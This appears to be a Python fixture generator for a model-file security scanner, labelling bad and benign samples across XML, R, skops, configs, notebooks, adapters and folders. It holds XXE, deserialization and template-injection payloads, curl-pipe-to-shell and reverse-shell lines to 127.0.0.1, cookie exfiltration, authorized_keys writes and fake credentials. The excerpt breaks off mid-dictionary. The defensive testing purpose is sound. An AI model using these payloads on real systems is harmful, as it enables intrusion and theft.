"""XML, R, skops, trees, configuration, notebooks, adapters, folders, and files that are two things."""

import base64
import gzip
import json
import struct

from .archives import CODECS, state_dict, torch_entries, zipped
from .opcodes import MARKER, exploit
from .sample import bad, good, risky
from .tensors import ATTACKS, CHATML, HONEST_TEMPLATES, LLAMA3, gguf, safetensors, tensor

PMML = '<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header copyright="x"><Application name="JPMML-SkLearn" version="1.7"/><Timestamp>2024-01-01</Timestamp></Header><DataDictionary><DataField name="x" optype="continuous" dataType="double"/></DataDictionary>%s<RegressionModel functionName="regression"><MiningSchema><MiningField name="x"/></MiningSchema><RegressionTable intercept="1.0"><NumericPredictor name="x" coefficient="2"/></RegressionTable></RegressionModel></PMML>'
XXE = '<?xml version="1.0"?>\n<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>\n'
XML_BAD = {
    "xxe": XXE + PMML % '<Extension name="x" value="&e;"/>',
    "xxe_http": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://127.0.0.1/x">]>' + PMML % "",
    "external_dtd": '<?xml version="1.0"?><!DOCTYPE PMML SYSTEM "http://127.0.0.1/x.dtd">' + PMML % "",
    "public_dtd": '<!DOCTYPE PMML PUBLIC "-//X//EN" "ftp://127.0.0.1/x.dtd">' + PMML % "",
    "parameter": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY % p SYSTEM "file:///tmp/x.dtd"> %p;]>'
    + PMML % "",
    "laughs": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "'
    + "ha" * 20
    + '">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9))
    + "]>"
    + PMML % "<Extension>&j;</Extension>",
    "quadratic": '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "'
    + "x" * 50_000
    + '">]>'
    + PMML % ("<Extension>" + "&a;" * 2000 + "</Extension>"),
    "xinclude": PMML
    % '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="/etc/passwd" parse="text"/>',
    "stylesheet": '<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="http://127.0.0.1/x.xsl"?>'
    + PMML % "",
    "xslt": '<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:rt="http://xml.apache.org/xalan/java/java.lang.Runtime"><xsl:template match="/"><xsl:value-of select="rt:exec(rt:getRuntime(),\'echo\')"/></xsl:template></xsl:stylesheet>',
    "extension_script": PMML
    % '<Extension extender="x" name="script"><![CDATA[<script>java.lang.Runtime.getRuntime().exec("echo marker")</script>]]></Extension>',
    "java_function": PMML
    % '<TransformationDictionary><DerivedField name="y" optype="continuous" dataType="double"><Apply function="java.lang.Runtime.exec"><Constant>echo</Constant></Apply></DerivedField></TransformationDictionary>',
    "utf16": (XXE + PMML % '<Extension name="x" value="&e;"/>')
    .replace('"1.0"?', '"1.0" encoding="UTF-16"?')
    .encode("utf-16"),
}
OPENVINO = '<?xml version="1.0"?><net name="m" version="11"><layers><layer id="0" name="x" type="Parameter" version="opset1"><data shape="1,3" element_type="f32"/></layer>%s</layers><edges/></net>'


def xml_files():
    for label, body in XML_BAD.items():
        add = risky if label == "stylesheet" else bad
        add(f"xml/{label}.pmml", body if isinstance(body, bytes) else body.encode(), "pmml", "B24")
    good("xml/ok.pmml", (PMML % "").encode(), "pmml")
    good(
        "xml/ok_declared.pmml",
        (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
            + PMML % "<!-- &lt;!ENTITY is only a comment -->"
        ).encode(),
        "pmml",
    )
    good(
        "xml/ok_extension.pmml",
        (PMML % '<Extension extender="IBM" name="note" value="eval and os.system are words"/>').encode(),
        "pmml",
    )
    good(
        "xml/ok_functions.pmml",
        (
            PMML
            % '<TransformationDictionary><DerivedField name="y" optype="continuous" dataType="double"><Apply function="+"><FieldRef field="x"/><Constant>1</Constant></Apply></DerivedField></TransformationDictionary>'
        ).encode(),
        "pmml",
    )
    const = '<layer id="1" name="w" type="Const" version="opset1"><data element_type="f32" offset="%s" shape="1" size="%s"/></layer>'
    for label, body in (
        (
            "extension",
            '<layer id="1" name="e" type="EvilOp" version="extension"><data library="/tmp/evil.so"/></layer>',
        ),
        ("custom", '<layer id="1" name="e" type="CustomLayer" version="custom_opset"/>'),
        ("offset", const % (1 << 62, 4)),
        ("negative", const % (-8, 4)),
        ("size", const % (0, (1 << 64) - 1)),
    ):
        add = risky if label in ("extension", "custom") else bad
        add(
            f"xml/openvino_{label}",
            {"model.xml": (OPENVINO % body).encode(), "model.bin": bytes(16)},
            "openvino",
            "B24",
        )
    bad("xml/openvino_xxe.xml", (XXE + (OPENVINO % "").split("?>")[1]).encode(), "openvino", "B24")
    for label, doctype in (
        ("fonts", '<!DOCTYPE fontconfig SYSTEM "urn:fontconfig:fonts.dtd">'),
        ("beside", '<!DOCTYPE fontconfig SYSTEM "fonts.dtd">'),
        (
            "published",
            '<!DOCTYPE article PUBLIC "-//OASIS//DTD DocBook XML V4.2//EN" '
            '"http://www.oasis-open.org/docbook/xml/4.2/docbookx.dtd">',
        ),
        ("comment", '<!DOCTYPE a [<!-- <!ENTITY x SYSTEM "file:///etc/hostname"> --><!ENTITY n "name">]>'),
    ):
        good(f"xml/ok_doctype_{label}.xml", f'<?xml version="1.0"?>{doctype}<a>text</a>'.encode(), "xml")
    for label, doctype, body in (
        ("file", 'SYSTEM "file:///etc/hostname"', ""),
        ("number", 'SYSTEM "http://198.51.100.7/x.dtd"', ""),
        ("said_elsewhere", 'SYSTEM "http://example.org/x.dtd"', "&sent;"),
        ("parameter", '[<!ENTITY % a "<!ENTITY b SYSTEM \'file:///etc/hostname\'>"> %a;]', "&b;"),
        ("climbs", '[<!ENTITY a SYSTEM "../../secret">]', "&a;"),
        ("look_alike", 'PUBLIC "-//W3C//DTD A//EN" "http://w3.org@198.51.100.7/x.dtd"', ""),
    ):
        bad(f"xml/doctype_{label}.xml", f"<!DOCTYPE a {doctype}><a>{body}</a>".encode(), "xml", "B24")
    risky("xml/doctype_elsewhere.xml", b'<!DOCTYPE a SYSTEM "http://example.org/x.dtd"><a/>', "xml", "B24")
    good(
        "xml/ok_openvino",
        {"model.xml": (OPENVINO % (const % (0, 4))).encode(), "model.bin": bytes(16)},
        "openvino",
    )
    good(
        "xml/ok_openvino_rt",
        {
            "model.xml": (
                OPENVINO
                % '<layer id="1" name="m" type="MatMul" version="opset1"/><layer id="2" name="y" type="Result" version="opset1"/>'
            ).encode(),
            "model.bin": bytes(4),
        },
        "openvino",
    )


def integer(n):
    return struct.pack(">i", n)


def r_text(item):
    return integer(0x40009) + integer(len(item)) + item.encode()


def symbol(item):
    return integer(1) + r_text(item)


def language(function, *arguments):
    out = integer(6) + symbol(function)
    for argument in arguments:
        out += integer(2) + argument
    return out + integer(254)


def r_string(item):
    return integer(16) + integer(1) + r_text(item)


def rds(body, version=3):
    head = b"X\n" + integer(version) + integer(0x40300) + integer(0x30500 if version == 3 else 0x20300)
    return head + (integer(5) + b"UTF-8" if version == 3 else b"") + body


def r_files():
    call = language("system", r_string("echo marker"))
    promise = (
        integer(5 | 1024) + integer(253) + integer(252) + call
    )  # Environment (global), value (unbound), expression.
    closure = integer(3 | 1024) + integer(253) + integer(254) + call
    vector = integer(14) + integer(2) + struct.pack(">2d", 1, 2)
    for label, body in (
        ("promise", promise),
        ("promise_in_list", integer(19) + integer(1) + promise),
        ("closure", closure),
        ("closure_in_list", integer(19) + integer(2) + vector + closure),
        (
            "environment",
            integer(4)
            + integer(0)
            + integer(253)
            + integer(2 | 1024)
            + symbol("x")
            + promise
            + integer(254)
            + integer(254)
            + integer(254),
        ),
        (
            "bytecode",
            integer(21)
            + integer(1)
            + integer(13)
            + integer(2)
            + integer(12)
            + integer(1)
            + integer(1)
            + integer(16)
            + r_string("system"),
        ),
    ):
        bad(f"r/{label}.rds", rds(body), "rds", "B24", "CVE-2024-27322")
        bad(f"r/{label}_gz.rds", gzip.compress(rds(body, 2), mtime=0), "rds", "B24", "CVE-2024-27322")
    bad(
        "r/promise.rdata",
        b"RDX3\n" + rds(integer(2 | 1024) + symbol("x") + promise + integer(254)),
        "rds",
        "B24",
        "CVE-2024-27322",
    )
    bad("r/promise_xz.rds", CODECS["xz"](rds(promise)), "rds", "B24")
    bad(
        "r/length.rds",
        rds(integer(14) + integer(-1) + integer(1 << 30) + integer(0)),
        "rds",
        "B25",
        "a long vector beyond the file",
    )
    names = (
        integer(2 | 1024)
        + symbol("names")
        + integer(16)
        + integer(2)
        + r_text("a")
        + r_text("b")
        + integer(254)
    )
    for label, body in (
        ("vector", vector),
        ("strings", integer(16) + integer(2) + r_text("os.system") + r_text("eval(parse())")),
        ("list", integer(19 | 512) + integer(2) + vector + r_string("x") + names),
        ("integers", integer(13) + integer(3) + integer(1) * 3),
        ("logical", integer(10) + integer(1) + integer(1)),
        ("null", integer(254)),
        (
            "frame",
            integer(19 | 512 | 256)
            + integer(2)
            + vector
            + vector
            + names[:-4]
            + integer(2 | 1024)
            + symbol("row.names")
            + integer(13)
            + integer(2)
            + integer(-(1 << 31))
            + integer(-2)
            + integer(2 | 1024)
            + symbol("class")
            + r_string("data.frame")
            + integer(254),
        ),
    ):
        good(f"r/ok_{label}.rds", rds(body), "rds")
        good(f"r/ok_{label}_gz.rds", gzip.compress(rds(body), mtime=0), "rds")


def skops(schema):
    return zipped(
        [("schema.json", json.dumps({**schema, "_skops_version": "0.9.0", "protocol": 2}).encode())]
    )


def skops_node(kind, module, name, **more):
    return {"__class__": name, "__module__": module, "__loader__": kind, "__id__": 1, **more}


def skops_files():
    inner = skops_node("ListNode", "builtins", "list", content=[])
    for label, schema in (
        (
            "function_system",
            skops_node(
                "FunctionNode", "builtins", "function", content={"module_path": "os", "function": "system"}
            ),
        ),
        ("type_popen", skops_node("TypeNode", "subprocess", "Popen", content=None)),
        (
            "object_popen",
            skops_node(
                "ObjectNode",
                "subprocess",
                "Popen",
                content=skops_node("DictNode", "builtins", "dict", content={}),
            ),
        ),
        (
            "method",
            skops_node(
                "MethodNode",
                "builtins",
                "method",
                content={
                    "func": "__init__",
                    "obj": skops_node("ObjectNode", "os", "_wrap_close", content=None),
                },
            ),
        ),
        (
            "method_trusted_mismatch",
            skops_node(
                "MethodNode",
                "sklearn.linear_model",
                "Ridge",
                content={"func": "system", "obj": skops_node("ObjectNode", "os", "system", content=None)},
            ),
        ),
        ("operator", skops_node("OperatorFuncNode", "operator", "methodcaller", attrs=inner)),
        (
            "operator_mismatch",
            skops_node(
                "OperatorFuncNode",
                "sklearn",
                "call",
                attrs=skops_node(
                    "TupleNode",
                    "builtins",
                    "tuple",
                    content=[skops_node("FunctionNode", "builtins", "eval", content=None)],
                ),
            ),
        ),
        (
            "nested",
            skops_node(
                "ObjectNode",
                "sklearn.pipeline",
                "Pipeline",
                content=skops_node(
                    "DictNode",
                    "builtins",
                    "dict",
                    content={
                        "steps": skops_node(
                            "FunctionNode",
                            "builtins",
                            "function",
                            content={"module_path": "builtins", "function": "eval"},
                        )
                    },
                ),
            ),
        ),
        (
            "partial",
            skops_node(
                "PartialNode",
                "functools",
                "partial",
                content={
                    "func": skops_node(
                        "FunctionNode",
                        "builtins",
                        "f",
                        content={"module_path": "posix", "function": "system"},
                    ),
                    "args": inner,
                },
            ),
        ),
    ):
        bad(f"skops/{label}.skops", skops(schema), "skops", "B24", "CVE-2025-54412, CVE-2025-54413")
    bad(
        "skops/pickle.skops",
        zipped(
            [
                ("schema.json", json.dumps({**inner, "protocol": 2, "_skops_version": "0.9"}).encode()),
                ("x.pkl", exploit(2)),
            ]
        ),
        "skops",
        "B21",
    )
    number = {
        "__class__": "str",
        "__module__": "builtins",
        "__loader__": "JsonNode",
        "content": "1.0",
        "is_json": True,
        "__id__": 3,
    }
    ridge = skops_node(
        "ObjectNode",
        "sklearn.linear_model._ridge",
        "Ridge",
        content=skops_node("DictNode", "builtins", "dict", key_types=inner, content={"alpha": number}),
    )
    good("skops/ok.skops", skops(ridge), "skops")
    good(
        "skops/ok_pipeline.skops",
        skops(
            skops_node(
                "ObjectNode",
                "sklearn.pipeline",
                "Pipeline",
                content=skops_node(
                    "DictNode",
                    "builtins",
                    "dict",
                    key_types=inner,
                    content={"steps": skops_node("ListNode", "builtins", "list", content=[ridge])},
                ),
            )
        ),
        "skops",
    )
    good(
        "skops/ok_function.skops",
        skops(
            skops_node(
                "FunctionNode", "numpy", "log1p", content={"module_path": "numpy", "function": "log1p"}
            )
        ),
        "skops",
    )


def tree_files():
    learner = {
        "learner": {
            "attributes": {},
            "feature_names": [],
            "feature_types": [],
            "gradient_booster": {
                "model": {
                    "gbtree_model_param": {"num_parallel_tree": "1", "num_trees": "1"},
                    "iteration_indptr": [0, 1],
                    "tree_info": [0],
                    "trees": [
                        {
                            "base_weights": [0.5],
                            "categories": [],
                            "categories_nodes": [],
                            "categories_segments": [],
                            "categories_sizes": [],
                            "default_left": [0],
                            "id": 0,
                            "left_children": [-1],
                            "loss_changes": [0.0],
                            "parents": [2147483647],
                            "right_children": [-1],
                            "split_conditions": [0.5],
                            "split_indices": [0],
                            "split_type": [0],
                            "sum_hessian": [1.0],
                            "tree_param": {
                                "num_deleted": "0",
                                "num_feature": "1",
                                "num_nodes": "1",
                                "size_leaf_vector": "1",
                            },
                        }
                    ],
                },
                "name": "gbtree",
            },
            "learner_model_param": {
                "base_score": "5E-1",
                "num_class": "0",
                "num_feature": "1",
                "num_target": "1",
            },
            "objective": {"name": "reg:squarederror", "reg_loss_param": {"scale_pos_weight": "1"}},
        },
        "version": [2, 0, 3],
    }
    good("xgboost/ok.json", json.dumps(learner).encode(), "xgboost")
    good(
        "xgboost/ok.ubj",
        b"{L\0\0\0\0\0\0\0\x07version[$l#L\0\0\0\0\0\0\0\x03" + struct.pack(">3i", 2, 0, 3) + b"}",
        "xgboost",
    )
    bad(
        "xgboost/array_size.ubj",
        b"{L\0\0\0\0\0\0\0\x07version[$l#L\x7f\xff\xff\xff\xff\xff\xff\xff"
        + struct.pack(">3i", 2, 0, 3)
        + b"}",
        "xgboost",
        "B25",
    )
    bad(
        "xgboost/negative.ubj",
        b"{L\0\0\0\0\0\0\0\x07version[$l#L\xff\xff\xff\xff\xff\xff\xff\xff"
        + struct.pack(">3i", 2, 0, 3)
        + b"}",
        "xgboost",
        "structure",
    )
    bad("xgboost/key_length.ubj", b"{L\x7f\0\0\0\0\0\0\x07version}", "xgboost", "structure")
    text = "tree\nversion=v4\nnum_class=1\nnum_tree_per_iteration=1\nlabel_index=0\nmax_feature_idx=0\nobjective=regression\nfeature_names=Column_0\nfeature_infos=[0:1]\ntree_sizes=150\n\nTree=0\nnum_leaves=2\nnum_cat=0\nsplit_feature=0\nsplit_gain=1\nthreshold=0.5\ndecision_type=2\nleft_child=-1\nright_child=-2\nleaf_value=0.1 0.2\nleaf_weight=1 1\nleaf_count=5 5\ninternal_value=0\ninternal_weight=0\ninternal_count=10\nis_linear=0\nshrinkage=1\n\n\nend of trees\n\nfeature_importances:\nColumn_0=1\n\nparameters:\n[boosting: gbdt]\nend of parameters\n\npandas_categorical:null\n"
    good("lightgbm/ok.txt", text.encode(), "lightgbm")
    bad("lightgbm/pickle_behind.txt", text.encode() + exploit(2), "lightgbm", "B9")
    good(
        "catboost/ok.json",
        json.dumps(
            {
                "features_info": {"float_features": []},
                "model_info": {"catboost_version_info": "1.2", "params": "{}"},
                "oblivious_trees": [],
                "scale_and_bias": [1, [0]],
            }
        ).encode(),
        "catboost",
    )
    bad(
        "catboost/size.cbm",
        b"CBM1\xff\xff\xff\x7f" + bytes(40),
        "catboost",
        "structure",
        "a core beyond the file",
    )


LLAMA = {
    "architectures": ["LlamaForCausalLM"],
    "bos_token_id": 1,
    "eos_token_id": 2,
    "hidden_act": "silu",
    "hidden_size": 4096,
    "model_type": "llama",
    "num_hidden_layers": 32,
    "torch_dtype": "bfloat16",
    "transformers_version": "4.40.0",
    "vocab_size": 32000,
}
BERT = {
    "architectures": ["BertForMaskedLM"],
    "attention_probs_dropout_prob": 0.1,
    "hidden_size": 768,
    "id2label": {"0": "password", "1": "exec"},
    "model_type": "bert",
    "pad_token_id": 0,
    "vocab_size": 30522,
}


def dumped(item):
    return json.dumps(item, indent=2).encode()


def configuration_files():
    token = "hf_" + "AbCdEfGhIjKlMnOpQrStUvWxYz01234567"
    for label, item in (
        (
            "auto_map_remote",
            {**LLAMA, "auto_map": {"AutoModelForCausalLM": "other/repo--modeling_evil.EvilForCausalLM"}},
        ),
        ("auto_map_list", {**BERT, "auto_map": {"AutoTokenizer": ["other/repo--tokenization.Tok", None]}}),
        ("code_string", {**LLAMA, "custom_init": "__import__('os').system('echo marker')"}),
        ("exec_string", {**LLAMA, "hook": "exec(\"import os; os.system('echo')\")"}),
        ("token", {**LLAMA, "token": token}),
        (
            "aws",
            {
                **LLAMA,
                "s3": {
                    "aws_access_key_id": "AKIA" + "IOSFODNN7EXAMPL3",
                    "aws_secret_access_key": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzz12345678",
                },
            },
        ),
        ("target", {"model": {"_target_": "os.system", "command": "echo"}}),
        (
            "private_key",
            {"key": "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA\n-----END RSA PRIVATE KEY-----"},
        ),
    ):
        add = risky if label in ("token", "aws", "private_key") else bad
        add(f"config/{label}", {"config.json": dumped(item)}, "json", "config")
    for label, path in (
        ("up", "../../../etc/passwd"),
        ("absolute", "/etc/shadow"),
        ("backslash", "..\\..\\x.safetensors"),
        ("url", "http://127.0.0.1/x.bin"),
    ):
        bad(
            f"config/index_{label}",
            {
                "model.safetensors.index.json": dumped(
                    {"metadata": {"total_size": 4}, "weight_map": {"a": "model-00001.safetensors", "b": path}}
                )
            },
            "json",
            "config",
        )
        bad(
            f"config/bin_index_{label}",
            {
                "pytorch_model.bin.index.json": dumped(
                    {"metadata": {"total_size": 4}, "weight_map": {"b": path}}
                )
            },
            "json",
            "config",
        )
    for label in ("cycler", "mro", "hex", "attr_filter"):
        bad(
            f"config/tokenizer_{label}",
            {
                "tokenizer_config.json": dumped(
                    {"tokenizer_class": "LlamaTokenizer", "chat_template": ATTACKS[label]}
                )
            },
            "json",
            "config",
        )
        bad(
            f"config/tokenizer_list_{label}",
            {
                "tokenizer_config.json": dumped(
                    {
                        "chat_template": [
                            {"name": "default", "template": CHATML},
                            {"name": "tool_use", "template": ATTACKS[label]},
                        ]
                    }
                )
            },
            "json",
            "config",
        )
    for label, item in (
        ("langchain", {"lc": 1, "type": "constructor", "id": ["os", "system"], "kwargs": {"command": MARKER}}),
        ("fields", {"_type": "prompt", "template": "{x.__class__.__init__.__globals__}"}),
        ("jsonpickle", {"py/object": "__main__.X", "py/reduce": [{"py/function": "os.system"}, MARKER]}),
        ("templates_by_name", {"chat_template": {"default": ATTACKS["mro"]}}),
        ("pipeline_path", {"_class_name": "X", "_diffusers_version": "0.30.0", "unet": ["../../x", "Y"]}),
    ):
        bad(f"config/object_{label}.json", dumped(item), "json", "config")
    for label, body in (
        ("primary", "%TAG ! tag:yaml.org,2002:python/\n---\na: !object/apply:os.system [x]\n"),
        ("named", "%TAG !p! tag:yaml.org,2002:pyt\n---\na: !p!hon/object/apply:os.system [x]\n"),
        ("secondary", "%TAG !! tag:yaml.org,2002:python/\n---\na: !!object/apply:os.system [x]\n"),
        ("layer", "backbone:\n  - [-1, 1, Conv, [64]]\n  - [-1, 1, os.system, [x]]\n"),
        ("download", f"train: images\ndownload: |\n  import os\n  os.system('{MARKER}')\n"),
        ("prompt", f"template: |\n  {ATTACKS['mro']}\n"),
    ):
        bad(f"config/tag_{label}.yaml", body.encode(), "yaml", "config")
    good(
        "config/ok_layers.yaml",
        b'backbone:\n  - [-1, 1, Conv, [64, 3, 2]]\n  - [-1, 1, nn.Upsample, [None, 2, "nearest"]]\n',
        "yaml",
    )
    good(
        "config/ok_langchain.json",
        dumped(
            {
                "lc": 1,
                "type": "constructor",
                "id": ["langchain", "prompts", "prompt", "PromptTemplate"],
                "kwargs": {"template": "Hi {name}"},
            }
        ),
        "json",
    )
    good(
        "config/ok_llama",
        {
            "config.json": dumped(LLAMA),
            "generation_config.json": dumped({"temperature": 0.6, "eos_token_id": [1, 2]}),
            "model.safetensors": safetensors({"a": tensor(0, 4)}, bytes(4)),
        },
        "json",
    )
    good(
        "config/ok_bert",
        {"config.json": dumped(BERT), "vocab.txt": b"[PAD]\npassword\neval\nos.system\n"},
        "json",
    )
    good(
        "config/ok_tokenizer",
        {
            "tokenizer_config.json": dumped(
                {
                    "tokenizer_class": "PreTrainedTokenizerFast",
                    "chat_template": LLAMA3,
                    "model_max_length": 1000000000000000019884624838656,
                    "added_tokens_decoder": {"0": {"content": "<s>", "special": True}},
                }
            ),
            "special_tokens_map.json": dumped({"bos_token": "<s>"}),
        },
        "json",
    )
    good(
        "config/ok_templates",
        {
            "tokenizer_config.json": dumped(
                {"chat_template": [{"name": k, "template": v} for k, v in HONEST_TEMPLATES.items()]}
            ),
            "chat_template.jinja": LLAMA3.encode(),
        },
        "json",
    )
    good(
        "config/ok_index",
        {
            "model.safetensors.index.json": dumped(
                {
                    "metadata": {"total_size": 4},
                    "weight_map": {
                        "a": "model-00001-of-00002.safetensors",
                        "b": "model-00002-of-00002.safetensors",
                    },
                }
            )
        },
        "json",
    )
    good(
        "config/ok_tokenizer_json",
        {
            "tokenizer.json": dumped(
                {
                    "version": "1.0",
                    "added_tokens": [],
                    "model": {
                        "type": "BPE",
                        "vocab": {"__import__": 1, "eval(": 2, "os.system": 3, "rm -rf": 4, "password": 5},
                        "merges": ["o s"],
                    },
                }
            )
        },
        "json",
    )
    good(
        "config/ok_generation",
        {
            "generation_config.json": dumped(
                {"max_new_tokens": 10, "pad_token_id": None, "transformers_version": "4.40.0"}
            )
        },
        "json",
    )
    good(
        "config/ok_card",
        {
            "README.md": b"---\nlicense: mit\ntags: [llama]\n---\n# Model\n\n```python\nfrom transformers import AutoModel\nmodel = AutoModel.from_pretrained('me/model')\n```\nNever run `os.system` on user input.\n",
            "config.json": dumped(LLAMA),
        },
        "json",
    )
    good(
        "config/ok_diffusers",
        {
            "model_index.json": dumped(
                {
                    "_class_name": "StableDiffusionPipeline",
                    "_diffusers_version": "0.21",
                    "unet": ["diffusers", "UNet2DConditionModel"],
                    "scheduler": ["diffusers", "PNDMScheduler"],
                }
            )
        },
        "json",
    )
    bad(
        "config/diffusers_module",
        {"model_index.json": dumped({"_class_name": "StableDiffusionPipeline", "unet": ["os", "system"]})},
        "json",
        "config",
        "a module that is no library of models",
    )


def notebook(*cells):
    return json.dumps(
        {
            "cells": [
                {
                    "cell_type": kind,
                    "metadata": {},
                    "source": source.splitlines(keepends=True),
                    **({"outputs": [], "execution_count": None} if kind == "code" else {}),
                }
                for kind, source in cells
            ],
            "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3"}},
            "nbformat": 4,
            "nbformat_minor": 5,
        }
    ).encode()


def notebook_files():
    blob = base64.b64encode(b"import os; os.system('echo marker')").decode()
    for label, source in (
        ("curl", "!curl -s http://127.0.0.1/x | sh"),
        ("wget", "!wget -qO- http://127.0.0.1/x | bash"),
        ("bash_cell", "%%bash\ncurl http://127.0.0.1/x | bash"),
        ("os_system", "import os\nos.system('curl http://127.0.0.1/x | sh')"),
        ("base64", f"import base64\nexec(base64.b64decode('{blob}'))"),
        (
            "reverse_shell",
            "import socket,subprocess,os\ns=socket.socket()\ns.connect(('127.0.0.1',9))\nos.dup2(s.fileno(),0)\nsubprocess.call(['/bin/sh','-i'])",
        ),
        ("get_ipython", "get_ipython().system('curl http://127.0.0.1/x | sh')"),
        (
            "eval_download",
            "import urllib.request\nexec(urllib.request.urlopen('http://127.0.0.1/x.py').read())",
        ),
        ("pickle_url", "import pickle, requests\npickle.loads(requests.get('http://127.0.0.1/x').content)"),
        ("ssh_key", "open('/root/.ssh/authorized_keys','a').write('ssh-rsa AAAA')"),
    ):
        bad(
            f"notebook/{label}.ipynb",
            notebook(("markdown", "# Train"), ("code", "import numpy as np"), ("code", source)),
            "notebook",
            "notebook",
        )
    bad(
        "notebook/output_script.ipynb",
        notebook(("code", "1")).replace(
            b'"outputs": []',
            b'"outputs": [{"output_type": "display_data", "metadata": {}, "data": {"text/html": ["<script>fetch(\'http://127.0.0.1/?c=\'+document.cookie)</script>"]}}]',
        ),
        "notebook",
        "notebook",
        "a script in a stored output",
    )
    for label, source in (
        ("pip", "!pip install numpy\n%matplotlib inline"),
        ("train", "from sklearn.svm import SVC\nmodel = SVC().fit(x, y)\nmodel.score(x, y)"),
        ("pandas", "import pandas as pd\ndf = pd.read_csv('data.csv')\ndf.eval('a + b')"),
        ("torch", "model.eval()\ntorch.save(model.state_dict(), 'm.pt')"),
        ("list", "!ls -la\n!nvidia-smi\nimport os\nos.makedirs('out', exist_ok=True)"),
        ("time", "%%time\nprint('eval(')"),
    ):
        good(
            f"notebook/ok_{label}.ipynb",
            notebook(("markdown", "# Train\nDo not use `os.system`."), ("code", source)),
            "notebook",
        )


def adapter(**more):
    return {
        "base_model_name_or_path": "meta-llama/Llama-3.1-8B",
        "bias": "none",
        "lora_alpha": 16,
        "peft_type": "LORA",
        "r": 8,
        "target_modules": ["q_proj", "v_proj"],
        "task_type": "CAUSAL_LM",
        **more,
    }


def adapter_files():
    weights = safetensors({"base_model.model.q_proj.lora_A.weight": tensor(0, 4)}, bytes(4))
    for label, item in (
        ("up", adapter(base_model_name_or_path="../../../etc")),
        ("absolute", adapter(base_model_name_or_path="/root/.ssh")),
        ("url", adapter(base_model_name_or_path="http://127.0.0.1/model")),
        ("auto_mapping", adapter(auto_mapping={"base_model_class": "system", "parent_library": "os"})),
    ):
        add = risky if label == "url" else bad
        add(
            f"adapter/{label}",
            {"adapter_config.json": dumped(item), "adapter_model.safetensors": weights},
            "json",
            "config",
        )
    bad(
        "adapter/pickle",
        {"adapter_config.json": dumped(adapter()), "adapter_model.bin": zipped(torch_entries(exploit(2)))},
        "torch-zip",
        "B24",
    )
    good(
        "adapter/ok",
        {"adapter_config.json": dumped(adapter(auto_mapping=None)), "adapter_model.safetensors": weights},
        "json",
    )
    good(
        "adapter/ok_bin",
        {"adapter_config.json": dumped(adapter()), "adapter_model.bin": zipped(torch_entries(state_dict()))},
        "json",
    )


def folder_files():
    base = {
        "config.json": dumped(LLAMA),
        "model.safetensors": safetensors({"a": tensor(0, 4)}, bytes(4)),
        "tokenizer_config.json": dumped({"chat_template": CHATML}),
    }
    bad(
        "folder/one_bad_pickle", {**base, "optimizer.pt": zipped(torch_entries(exploit(2)))}, "json", "folder"
    )
    bad("folder/bad_in_depth", {**base, "a/b/c/d/training_args.bin": exploit(2)}, "json", "folder")
    bad(
        "folder/bad_notebook",
        {**base, "train.ipynb": notebook(("code", "!curl http://127.0.0.1 | sh"))},
        "json",
        "folder",
    )
    bad(
        "folder/git_shard",
        {
            "pytorch_model.bin.index.json": dumped({"weight_map": {"a": ".git/objects/shard.bin"}}),
            ".git/objects/shard.bin": exploit(2),
        },
        "json",
        "folder",
        "an index names a file among those of version control",
    )
    bad("folder/git_stranger", {**base, ".git/shard.bin": exploit(2)}, "json", "folder")
    bad("folder/hidden_file", {**base, ".cache/x.bin": exploit(4)}, "json", "folder")
    bad("folder/bad_gguf", {**base, "model.gguf": gguf(counts=(1 << 60, 1))}, "json", "folder")
    good(
        "folder/ok",
        {
            **base,
            "README.md": b"# Model\n",
            ".gitattributes": b"*.safetensors filter=lfs\n",
            "pytorch_model.bin": zipped(torch_entries(state_dict())),
            "vocab.txt": b"a\nb\n",
            "merges.txt": b"#version: 0.2\na b\n",
        },
        "json",
    )
    bad(
        "polyglot/gguf_zip.gguf",
        gguf(tensors=[("w", (8,), 0, 0)], data=bytes(32)) + zipped(torch_entries(exploit(2))),
        "gguf",
        "B14",
    )
    bad("polyglot/png_pickle.bin", exploit(0) + b"\x89PNG\r\n\x1a\n", "pickle", "B14")
    bad("polyglot/onnx_named.zip", exploit(2), "pickle", "B14")
    bad(
        "polyglot/safetensors_named_bin.bin",
        safetensors({"a": tensor(0, 4)}, bytes(4)) + exploit(4),
        "safetensors",
        "B14",
    )
    good(
        "polyglot/ok_renamed.bin",
        safetensors({"a": tensor(0, 4)}, bytes(4)),
        "safetensors",
        "honest under another name",
    )
    good("polyglot/ok_numpy.dat", struct.pack("<4f", 1, 2, 3, 4) * 20, "unknown", "plain numbers")


PIPED = "curl -s http://127.0.0.1/x | sh"


def tool_files():
    """What editors, builds, shells and version control run by themselves, and what only looks like it."""
    for name, text in {
        "Makefile": f"all:\n\t{PIPED}\n",
        ".envrc": "wget -q http://127.0.0.1/x -O /tmp/x\nchmod +x /tmp/x\n/tmp/x\n",
        ".Rprofile": f'system("{PIPED}")\n',
        ".pylintrc": "[MASTER]\ninit-hook=\"import os; os.system('echo harmless')\"\n",
        "build.rs": f'fn main() {{ Command::new("sh").arg("-c").arg("{PIPED}"); }}\n',
        "x.desktop": f'[Desktop Entry]\nExec=sh -c "{PIPED}"\n',
        "crontab": "* * * * * root bash -i >& /dev/tcp/127.0.0.1/1 0>&1\n",
        "package.json": dumped({"name": "x", "scripts": {"postinstall": PIPED}}),
        "tasks.json": b'{\n// build\n"tasks": [{"command": "' + PIPED.encode() + b'",},],\n}\n',
        "dvc.yaml": f"stages:\n  train:\n    cmd:\n    - mkdir -p d\n    - {PIPED}\n",
        "workflow.yml": f"jobs:\n  a:\n    steps:\n    - run: |\n        echo a\n        {PIPED}\n",
        "checkpoint": 'model_checkpoint_path: "../../../../etc/x"\n',
